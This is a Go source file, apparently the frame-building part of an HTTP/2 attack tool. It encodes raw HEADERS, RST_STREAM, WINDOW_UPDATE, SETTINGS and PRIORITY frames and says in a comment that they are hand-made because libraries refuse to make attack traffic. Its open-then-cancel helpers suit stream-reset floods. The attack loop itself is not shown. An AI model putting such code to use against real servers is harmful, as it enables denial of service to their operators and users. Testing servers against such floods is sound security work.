package main

import "encoding/binary"

// preface is what a client sends before its first frame (RFC 9113 section 3.4).
const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// frameHeaderSize is the length of what comes before each payload (RFC 9113
// section 4.1).
const frameHeaderSize = 9

// mostPayload is the longest payload that every server must take
// (SETTINGS_MAX_FRAME_SIZE).
const mostPayload = 16384

// Types of frames (RFC 9113 section 6).
const (
	frameData         = 0x0
	frameHeaders      = 0x1
	framePriority     = 0x2
	frameRSTStream    = 0x3
	frameSettings     = 0x4
	framePing         = 0x6
	frameGoAway       = 0x7
	frameWindowUpdate = 0x8
	frameContinuation = 0x9
)

// Flags of frames.
const (
	flagAck        = 0x1
	flagEndStream  = 0x1
	flagEndHeaders = 0x4
)

// settingInitialWindowSize is the flow-control window that streams begin with
// (RFC 9113 section 6.5.2).
const settingInitialWindowSize = 0x4

// mostWindow is the largest flow-control window, and firstWindow the one that a
// connection begins with (RFC 9113 section 6.9.2).
const (
	mostWindow  = 1<<31 - 1
	firstWindow = 1<<16 - 1
)

// frames are frames of HTTP/2 made by hand: libraries refuse to make what an
// attack consists of.
type frames struct {
	bytes []byte
	count int64  // frames made since reset
	last  uint32 // the stream opened last; 0: none
}

// reset forgets the bytes and the count, not the streams.
func (f *frames) reset() {
	f.bytes, f.count = f.bytes[:0], 0
}

// add appends a frame.
func (f *frames) add(kind, flags byte, stream uint32, payload []byte) {
	n := len(payload)
	f.bytes = append(f.bytes, byte(n>>16), byte(n>>8), byte(n), kind, flags)
	f.bytes = binary.BigEndian.AppendUint32(f.bytes, stream)
	f.bytes = append(f.bytes, payload...)
	f.count++
}

// addNumber appends a frame whose payload is one 32-bit number.
func (f *frames) addNumber(kind byte, stream, number uint32) {
	var payload [4]byte
	binary.BigEndian.PutUint32(payload[:], number)
	f.add(kind, 0, stream, payload[:])
}

// begin opens the next stream with a field section and returns its number.
func (f *frames) begin(flags byte, section []byte) uint32 {
	if f.last++; f.last%2 == 0 { // clients open odd ones only
		f.last++
	}
	f.add(frameHeaders, flags, f.last, section)
	return f.last
}

// cancel takes a stream back.
func (f *frames) cancel(stream uint32) { f.addNumber(frameRSTStream, stream, codeCancel) }

// windowUpdate lets the server send n bytes more.
func (f *frames) windowUpdate(stream, n uint32) { f.addNumber(frameWindowUpdate, stream, n) }

// setting appends SETTINGS with one parameter.
func (f *frames) setting(id uint16, value uint32) {
	var payload [6]byte
	binary.BigEndian.PutUint16(payload[:], id)
	binary.BigEndian.PutUint32(payload[2:], value)
	f.add(frameSettings, 0, 0, payload[:])
}

// priority makes a stream depend on no other, with the weight that it has
// anyway (RFC 9113 section 6.3).
func (f *frames) priority(stream uint32) {
	f.add(framePriority, 0, stream, []byte{0, 0, 0, 0, 15})
}
